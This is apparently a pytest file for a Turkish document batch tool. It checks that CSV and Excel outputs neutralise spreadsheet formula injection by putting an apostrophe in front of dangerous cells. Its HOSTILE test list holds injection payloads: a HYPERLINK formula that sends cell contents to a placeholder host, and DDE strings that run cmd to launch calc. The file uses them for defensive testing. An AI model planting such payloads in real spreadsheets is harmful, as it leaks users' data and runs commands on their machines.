"""Batch outputs safe for spreadsheets (issue 17 item 5): no cell of errors.csv, errors.xlsx
or manifest.csv starts a formula, whatever a KAYS export carries."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

from docgen.batch import run_batch
from evrak.spreadsheet import FORMULA_START, write_csv
from tests.docgen.conftest import SAMPLE_CSV

HOSTILE = ["=HYPERLINK(\"http://x.test/?\"&A1,\"tıkla\")", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+1", "-5", "=2*7"]


def _export(tmp_path: Path) -> Path:
    """The sample export's first rows with hostile application numbers: bad VKN rows go to
    errors.csv, good rows to manifest.csv, both keeping the hostile number."""
    lines = SAMPLE_CSV.read_text(encoding="utf-8-sig").splitlines()
    out = [lines[0]]
    for i, hostile in enumerate(HOSTILE[:3]):
        cells = lines[1 + i].split(";")
        cells[0] = hostile.replace(";", ",")
        out.append(";".join(cells))
    for hostile in HOSTILE[3:]:
        cells = lines[4].split(";")
        cells[0] = hostile
        cells[2] = "1111111111"  # a placeholder VKN: an error row
        out.append(";".join(cells))
    path = tmp_path / "kays.csv"
    path.write_text("\n".join(out) + "\n", encoding="utf-8")
    return path


def _formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def test_no_output_cell_starts_a_formula(tmp_path: Path) -> None:
    out = tmp_path / "out"
    res = run_batch("taahhutname", _export(tmp_path), "tr63-2023-makine", out, workers=1)
    assert res.done >= 1 and len(res.errors) >= 3
    written = {e.application_no for e in res.errors} | {e["application_no"] for e in res.entries}
    assert written == set(HOSTILE)  # every hostile number reached an output
    for name in ("errors.csv", "manifest.csv"):
        with (out / name).open(encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if _formula_like(c)], name
        # the text is kept, only made inert: a leading apostrophe
        assert any(c.startswith("'") and c[1:] in HOSTILE for c in cells), name
    wb = load_workbook(out / "errors.xlsx")
    ws = wb.active
    values = [c.value for row in ws.iter_rows() for c in row]
    assert not [v for v in values if _formula_like(v)]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert "'+1+1" in values and ws.cell(1, 1).font.bold
    assert isinstance(ws.cell(2, 2).value, int)  # row numbers stay numbers


def test_excel_csv_has_bom_and_semicolons(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "e.csv", ["kaynak", "neden"], [["a.csv", "=1+1"], ["b.csv", "Ağır; Şanlı"]],
                     excel=True)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0] == "kaynak;neden"
    assert "'=1+1" in text and '"Ağır; Şanlı"' in text


def test_csv_rows_reads_turkish_excel_and_plain_csv_with_line_numbers(tmp_path):
    """The one reader of staff CSVs (KAYS exports, applicant history): Turkish Excel's BOM and
    semicolons, or plain commas; blank rows skipped with the line numbers a person sees."""
    from evrak.spreadsheet import csv_rows

    excel = tmp_path / "excel.csv"
    excel.write_bytes("\ufeffVKN;Unvan\r\n\r\n1234567890;Örnek, A.Ş.\r\n".encode())
    assert list(csv_rows(excel)) == [(1, ["VKN", "Unvan"]), (3, ["1234567890", "Örnek, A.Ş."])]
    plain = tmp_path / "plain.csv"
    plain.write_text('VKN,Unvan\n1234567890,"Örnek; Ltd."\n', encoding="utf-8")
    assert list(csv_rows(plain))[1] == (2, ["1234567890", "Örnek; Ltd."])
